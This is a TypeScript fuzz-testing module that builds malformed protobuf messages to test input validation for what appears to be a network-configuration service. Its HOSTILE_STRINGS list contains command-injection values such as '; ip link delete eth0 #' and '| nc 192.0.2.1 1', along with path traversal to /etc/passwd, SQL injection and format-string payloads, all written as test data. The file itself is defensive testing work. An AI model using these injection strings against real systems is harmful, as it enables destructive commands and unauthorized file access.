import { ScalarType, type DescField, type DescMessage } from '@bufbuild/protobuf';
import { BinaryWriter, WireType } from '@bufbuild/protobuf/wire';
import fc from 'fast-check';

const HUGE = 'x'.repeat(300_000);

/** What people and machines send that they should not: none of these is a valid id, address, name of a device or CIDR. */
const HOSTILE_STRINGS: readonly string[] = [
  '$(touch /tmp/weft-was-here)',
  '; ip link delete eth0 #',
  '`reboot`',
  '| nc 192.0.2.1 1',
  'a && ip netns delete x',
  'fdb flush\nlink delete dev eth0',
  '-force',
  '../../etc/passwd',
  'sixteen-bytes-16',
  'tap/../../x',
  '\u0000',
  'a\u0000b',
  '\u202e\u2028',
  '😀'.repeat(64),
  "' OR 1=1 --",
  '*',
  '>',
  'weft.ack.>',
  '{"a":1}',
  '%s%n%x',
  '00000000-0000-0000-0000-00000000000g',
  '00000000-0000-0000-0000-0000000000000',
  'fa:16:3e:00:00:00:00',
  'ff:ff:ff:ff:ff:ff:ff',
  '256.256.256.256',
  '10.0.0.0/33',
  '10.0.0.1/-1',
  '2001:db8::/129',
  '2001:db8::1%eth0',
  '::ffff:1.2.3.4.5',
  '0x7f.1',
  '1e400',
  '-1',
  HUGE,
];

const U64 = [0n, 1n, 2n ** 31n, 2n ** 32n - 1n, 2n ** 48n + 1n, 2n ** 53n, 2n ** 63n - 1n, 2n ** 63n, 2n ** 64n - 1n];

/**
 * Bytes of a message with fields that are absent, hostile, of another type, doubled or truncated; `known` are valid values
 * mixed in so that some requests get past the first check.
 */
export const hostileMessage = (message: DescMessage, known: readonly string[], depth = 0): fc.Arbitrary<Uint8Array> => {
  const fields = message.fields.map((field) =>
    fc.oneof(
      { weight: 4, arbitrary: fc.constant(new Uint8Array()) },
      { weight: 5, arbitrary: hostileField(field, known, depth) },
      { weight: 1, arbitrary: wrongType(field) },
    ),
  );
  return fc.tuple(...fields).map((parts) => Buffer.concat(parts));
};

/** Bytes that are hardly any message at all. */
export const noise: fc.Arbitrary<Uint8Array> = fc.oneof(
  fc.uint8Array({ minLength: 1, maxLength: 64 }),
  fc.constantFrom(
    Buffer.alloc(100_000, 0xff),
    Buffer.from([0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f]),
    Buffer.from('{"json": true}'),
    Buffer.alloc(64, 0x0b),
  ),
);

const hostileField = (field: DescField, known: readonly string[], depth: number): fc.Arbitrary<Uint8Array> => {
  if (field.fieldKind === 'map') return fc.constantFrom(...HOSTILE_STRINGS).map((text) => mapEntry(field.number, text));
  const one = hostileValue(field, known, depth);
  return field.fieldKind === 'list' ? fc.array(one, { maxLength: 3 }).map((each) => Buffer.concat(each)) : one;
};

const hostileValue = (field: DescField, known: readonly string[], depth: number): fc.Arbitrary<Uint8Array> => {
  const { number } = field;
  if (field.message !== undefined) {
    const inner = depth > 2 ? fc.constant(new Uint8Array()) : hostileMessage(field.message, known, depth + 1);
    return inner.map((bytes) =>
      Buffer.from(new BinaryWriter().tag(number, WireType.LengthDelimited).bytes(bytes).finish()),
    );
  }
  if (field.enum !== undefined)
    return fc
      .constantFrom(0, 1, 2, 99, -1, 2 ** 31 - 1)
      .map((value) => Buffer.from(new BinaryWriter().tag(number, WireType.Varint).int32(value).finish()));
  switch (field.scalar) {
    case ScalarType.STRING:
      return stringValue(known).map((text) =>
        Buffer.from(new BinaryWriter().tag(number, WireType.LengthDelimited).string(text).finish()),
      );
    case ScalarType.BYTES:
      return fc
        .uint8Array()
        .map((bytes) => Buffer.from(new BinaryWriter().tag(number, WireType.LengthDelimited).bytes(bytes).finish()));
    case ScalarType.DOUBLE:
      return fc
        .double()
        .map((value) => Buffer.from(new BinaryWriter().tag(number, WireType.Bit64).double(value).finish()));
    default:
      return fc
        .constantFrom(...U64)
        .map((value) => Buffer.from(new BinaryWriter().tag(number, WireType.Varint).uint64(value).finish()));
  }
};

const stringValue = (known: readonly string[]): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: known.length > 0 ? 2 : 0, arbitrary: fc.constantFrom('', ...known) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  );

/** A text where a number belongs, a number where a message belongs, bytes that are no UTF-8 where a text belongs. */
const wrongType = (field: DescField): fc.Arbitrary<Uint8Array> => {
  const { number } = field;
  return fc.constantFrom(
    Buffer.from(
      new BinaryWriter()
        .tag(number, WireType.Varint)
        .uint64(2n ** 64n - 1n)
        .finish(),
    ),
    Buffer.from(new BinaryWriter().tag(number, WireType.Bit32).fixed32(0xffff_ffff).finish()),
    Buffer.from(new BinaryWriter().tag(number, WireType.Bit64).double(Number.NaN).finish()),
    Buffer.from(
      new BinaryWriter()
        .tag(number, WireType.LengthDelimited)
        .bytes(Buffer.from([0xff, 0xfe, 0x00, 0x80]))
        .finish(),
    ),
  );
};

const mapEntry = (number: number, text: string): Uint8Array => {
  const entry = new BinaryWriter()
    .tag(1, WireType.LengthDelimited)
    .string(text)
    .tag(2, WireType.LengthDelimited)
    .string(text)
    .finish();
  return Buffer.from(new BinaryWriter().tag(number, WireType.LengthDelimited).bytes(entry).finish());
};
